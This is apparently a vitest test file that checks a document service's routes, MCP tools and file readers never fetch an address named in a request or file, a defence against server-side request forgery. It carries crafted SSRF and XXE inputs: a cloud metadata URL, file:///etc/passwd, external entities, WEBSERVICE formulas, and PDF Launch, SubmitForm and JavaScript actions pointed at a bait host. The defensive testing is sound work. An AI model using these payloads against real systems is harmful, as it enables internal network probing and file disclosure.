import { afterAll, beforeAll, expect, test } from "vitest"
import { docxParagraph, docxParts, epubParts, pptxParts, pptxShape, xlsxParts, zipOf } from "./document-files.ts"
import { startFakeLlm } from "./fake-llm.ts"
import { onePagePdf } from "./hostile-pdfs.ts"
import { type Served, serve } from "./served.ts"
import { type Connections, watchConnections } from "./watch-connections.ts"

// No caller makes the service ask an address (SSRF): none of its routes, tools and readers fetches what a request or a file names.
// Each gets the address of a server that answers; nobody may come there, and nobody may go anywhere but to the language model.

type Json = Record<string, unknown>

let served: Served
let llm: Awaited<ReturnType<typeof startFakeLlm>>
let connections: Connections
beforeAll(async () => {
  llm = await startFakeLlm(() => ({ content: { relevant: true, support: "fully_supported", answer: "See it." } }))
  served = await serve({
    isMigrated: true,
    environment: { LLM_BASE_URL: llm.baseUrl, LLM_MODEL: "fake", ENRICH_DOCUMENTS: "false" },
  })
  connections = await watchConnections()
})
afterAll(async () => {
  await connections.close()
  await served.close()
  await llm.close()
})

/** The bait under each scheme and spelling that some library follows. */
function addresses(): string[] {
  const { bait } = connections
  const host = bait.slice("http://".length)
  return [
    `${bait}/a`,
    `//${host}/b`,
    `https://${host}/c`,
    `ftp://${host}/d`,
    `gopher://${host}/e`,
    `postgres://u:p@${host}/f`,
    `jar:${bait}/g!/`,
    `\\\\${host}\\h`,
    `s3://${host}/i`,
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
  ]
}

function expectNobodyWent(about: string): void {
  expect(connections.visits, about).toEqual([])
  const llmHost = llm.baseUrl.slice("http://".length, -"/v1".length)
  expect(
    connections.opened.filter((host) => host !== llmHost),
    about,
  ).toEqual([])
}

test("the watch sees a connection of any kind", async () => {
  const watched = await watchConnections()
  await fetch(watched.bait)
  const host = watched.bait.slice("http://".length)
  expect(watched.opened).toContain(host)
  expect(watched.visits).toContain("GET /")
  await watched.close()
  // The first watch saw it too.
  expect(connections.opened.splice(0)).toEqual([host])
})

/** Schemas of the contract, their references followed. */
let components: Record<string, Json>
function resolved(schema: Json): Json {
  const name = typeof schema["$ref"] === "string" ? schema["$ref"].replace("#/components/schemas/", "") : undefined
  const followed = name === undefined ? schema : (components[name] ?? {})
  const [choice] = (followed["anyOf"] ?? followed["oneOf"] ?? []) as Json[]
  return choice ? resolved(choice) : followed
}

/** A value of the schema in which every text is `text`. */
function filled(given: Json, text: string, depth = 0): unknown {
  const schema = resolved(given)
  const type = Array.isArray(schema["type"]) ? schema["type"][0] : schema["type"]
  if (schema["const"] !== undefined) return schema["const"]
  if (Array.isArray(schema["enum"])) return schema["enum"][0]
  if (type === "string") return text
  if (type === "number" || type === "integer") return schema["minimum"] ?? 1
  if (type === "boolean") return false
  if (depth > 5) return undefined
  if (type === "array") return [filled((schema["items"] ?? {}) as Json, text, depth + 1)]
  const properties = (schema["properties"] ?? {}) as Record<string, Json>
  if (type === "object" && Object.keys(properties).length === 0) return { [text]: text, source_uri: text }
  return Object.fromEntries(
    Object.entries(properties).map(([name, property]) => [name, filled(property, text, depth + 1)]),
  )
}

/** A body in which every required field and one other is filled, for each other; and one in which all are. */
function bodies(schema: Json, text: string): Json[] {
  const whole = filled(schema, text) as Json
  const required = (resolved(schema)["required"] ?? []) as string[]
  const base = Object.fromEntries(required.map((name) => [name, whole[name]]))
  return [whole, base, ...Object.keys(whole).map((name) => ({ ...base, [name]: whole[name] }))]
}

interface Parameter {
  readonly in: "path" | "query"
  readonly name: string
}

interface Described {
  readonly parameters: readonly Parameter[]
  readonly requestBody?: { readonly content: Record<string, { readonly schema: Json }> }
}

interface Request {
  readonly method: string
  readonly path: string
  readonly body?: string
  readonly type?: string
}

/** Requests of one operation that name an address: in its path, in each of its query's parameters, in each field of its body. */
function* requestsOf(method: string, path: string, described: Described, address: string): Generator<Request> {
  const { parameters, requestBody } = described
  const text = encodeURIComponent(address)
  const named = path.replace(/\{\w+\}/g, text)
  const numbered = path
    .replace("{id}", text)
    .replace(/\{(?:page|chunk)\}/g, "1")
    .replace("{table}", "1.csv")
  for (const place of new Set([named, numbered])) {
    if (!requestBody) yield { method, path: place }
    for (const { name } of parameters.filter((each) => each.in === "query")) {
      yield { method, path: `${place}?${name}=${text}` }
    }
  }
  for (const [type, { schema }] of Object.entries(requestBody?.content ?? {})) {
    // Files have a test of their own.
    if (type === "multipart/form-data") continue
    for (const body of bodies(schema, address)) yield { method, path: named, body: `${JSON.stringify(body)}\n`, type }
  }
}

test("no route follows an address in any text field, path or query", { timeout: 300_000 }, async () => {
  const document = (await (await served.send("GET", "/openapi.json")).json()) as {
    paths: Record<string, Record<string, Described>>
    components: { schemas: Record<string, Json> }
  }
  components = document.components.schemas
  const operations = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, described]) => ({ path, method, described })),
  )
  const requests = operations.flatMap(({ path, method, described }) =>
    addresses().flatMap((address) => [...requestsOf(method, path, described, address)]),
  )
  const reached = new Set<string>()
  for (const { method, path, body, type = "application/json" } of requests) {
    const answer = await served.send(method.toUpperCase(), path, body, { "content-type": type })
    await answer.text()
    if (answer.ok) reached.add(`${method} ${path}`)
  }
  expect(requests.length).toBeGreaterThan(800)
  // They got through to what they are for.
  expect([...reached]).toEqual(expect.arrayContaining(["post /search", "post /answer", "post /index", "post /embed"]))
  expectNobodyWent("routes")
})

test("no tool of the MCP server, no resource and no prompt does", { timeout: 300_000 }, async () => {
  const call = async (method: string, params: Json = {}) => {
    const message = JSON.stringify({ jsonrpc: "2.0", id: 1, method, params })
    const answer = await served.send("POST", "/mcp", message, { accept: "application/json, text/event-stream" })
    const text = await answer.text()
    return JSON.parse(text.startsWith("{") ? text : (/^data: (\{.*)$/m.exec(text)?.[1] ?? "{}")) as { result?: Json }
  }
  const tools = (await call("tools/list")).result?.["tools"] as { name: string; inputSchema: Json }[]
  expect(tools.length).toBeGreaterThan(5)
  for (const address of addresses()) {
    for (const { name, inputSchema } of tools) {
      for (const body of bodies(inputSchema, address)) await call("tools/call", { name, arguments: body })
    }
    for (const uri of [address, `doc://${encodeURIComponent(address)}/p001`]) await call("resources/read", { uri })
    await call("prompts/get", { name: "answer", arguments: { question: address } })
  }
  expectNobodyWent("tools")
})

/** Files that name an address wherever their format has a place for one. */
function files(url: string): Record<string, string | Uint8Array> {
  const doctype = `<!DOCTYPE x SYSTEM "${url}/dtd" [<!ENTITY e SYSTEM "${url}/entity"><!ENTITY % p SYSTEM "${url}/parameter"> %p;]>`
  const html = `${doctype}<html><head><base href="${url}/"><link rel=stylesheet href="${url}/css"><link rel=preload href="${url}/pre"><meta http-equiv=refresh content="0;url=${url}/r"><script src="${url}/js"></script><style>@import "${url}/i"; p{background:url(${url}/bg)}</style></head><body><p>Words &e;</p><img src="${url}/img" srcset="${url}/2x 2x"><iframe src="${url}/f"></iframe><object data="${url}/o"></object><embed src="${url}/em"><video src="${url}/v" poster="${url}/po"></video><svg><image href="${url}/si"/><use href="${url}/su#a"/></svg><form action="${url}/fo"></form></body></html>`
  const outside = (id: string, type: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${url}/${type}" TargetMode="External"/>`
  const links = [
    "image",
    "attachedTemplate",
    "hyperlink",
    "oleObject",
    "externalLink",
    "frame",
    "subDocument",
    "styles",
    "footnotes",
  ]
    .map((type) => outside(`x-${type}`, type))
    .join("")
  const linked = (parts: Record<string, string>, main: string): Uint8Array => {
    const changed = Object.entries(parts).map(([name, part]) => {
      if (name.endsWith(".rels") && !name.startsWith("_rels/"))
        return [name, part.replace("</Relationships>", `${links}</Relationships>`)] as const
      return [name, name === main ? `${doctype}${part.replace(/^<\?xml.*?\?>/, "")}` : part] as const
    })
    return zipOf(Object.fromEntries(changed))
  }
  const drawing =
    '<w:p><w:r><w:drawing><pic:pic><pic:blipFill><a:blip r:link="x-image" r:embed="x-image"/></pic:blipFill></pic:pic></w:drawing></w:r></w:p>'
  const action = (kind: string) => `<</S/${kind}>>`
  const actions = [
    `<</S/URI/URI(${url}/uri)>>`,
    `<</S/GoToR/F<</FS/URL/F(${url}/gotor)>>/D[0/Fit]>>`,
    `<</S/Launch/F(${url}/launch)>>`,
    `<</S/SubmitForm/F<</FS/URL/F(${url}/submit)>>>>`,
    `<</S/ImportData/F<</FS/URL/F(${url}/import)>>>>`,
    action("Named/N/Print"),
    `<</S/JavaScript/JS(this.submitForm\\("${url}/js"\\); app.launchURL\\("${url}/js2"\\))>>`,
  ]
  const remote = `<</FS/URL/F(${url}/stream)>>`
  return {
    ...{
      "a.html": html,
      "a.xhtml": `<?xml version="1.0"?>${html}`,
      "a.svg": `<?xml version="1.0"?>${doctype}<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/i"/></svg>`,
    },
    "a.md": `![x](${url}/md)\n\n<img src="${url}/raw">\n\n[l](${url}/l)\n\n[r]: ${url}/ref "x"\n\n![r][r] ${url}/bare <${url}/auto>`,
    "a.txt": `${url}/text`,
    "a.csv": `a,b\n=WEBSERVICE("${url}/csv"),${url}/cell\n`,
    "a.docx": linked(docxParts(docxParagraph("Words") + drawing), "word/document.xml"),
    "a.xlsx": linked(
      xlsxParts({
        A: `<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("${url}/x")</f></c><c r="B1" t="inlineStr"><is><t>Words</t></is></c></row></sheetData>`,
      }),
      "xl/worksheets/sheet1.xml",
    ),
    "a.pptx": linked(pptxParts([pptxShape("Words")]), "ppt/slides/slide1.xml"),
    "a.epub": linked(epubParts({ "a.xhtml": `<p>Words</p><img src="${url}/e"/>` }), "OEBPS/a.xhtml"),
    ...Object.fromEntries(
      actions.map((each, index) => [
        `action-${index}.pdf`,
        onePagePdf({
          catalog: `/OpenAction ${each}/AA<</WC ${each}/DP ${each}>>`,
          page: `/AA<</O ${each}/C ${each}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A ${each}>>]`,
        }),
      ]),
    ),
    "remote.pdf": onePagePdf({
      page: `/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS ${remote}>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/R<</S/MR/C<</S/MCD/D ${remote}/CT(video/mp4)>>>>>>>>]`,
      more: [`<</Length 0/F ${remote}/FFilter/FlateDecode>>\nstream\n\nendstream`],
    }),
    "bundle.zip": zipOf({
      "_index.json": JSON.stringify({ id: "b", title: url, source: url, image: url }),
      "chunks/c0001.md": `---\nimage: ${url}/b\nsource: ${url}/s\n---\n![x](${url}/c)`,
    }),
  }
}

test("no reader of files does: links, pictures, entities, templates, actions of a PDF", {
  timeout: 300_000,
}, async () => {
  const ready: string[] = []
  for (const url of addresses().slice(0, 3)) {
    for (const [name, content] of Object.entries(files(url))) {
      const form = new FormData()
      form.set("file", new File([Uint8Array.from(Buffer.from(content))], name))
      form.set("source_uri", url)
      const response = await served.send("POST", "/documents", form)
      const { id = "" } = (await response.json()) as { id?: string }
      await served.runtime.ingest.idle()
      const told = (await (await served.send("GET", `/documents/${encodeURIComponent(id)}`)).json()) as {
        status?: string
      }
      if (told.status === "ready") ready.push(name)
      // Seen, too: drawing a page may follow what reading it didn't.
      for (const seen of ["pages/1/image", "pages/1", "chunks"]) {
        await (await served.send("GET", `/documents/${encodeURIComponent(id)}/${seen}`)).arrayBuffer()
      }
    }
  }
  // They were read, not refused at the door.
  for (const name of [
    "a.html",
    "a.md",
    "a.docx",
    "a.xlsx",
    "a.pptx",
    "a.epub",
    "action-0.pdf",
    "action-6.pdf",
    "remote.pdf",
  ]) {
    expect(ready).toContain(name)
  }
  expectNobodyWent("files")
})
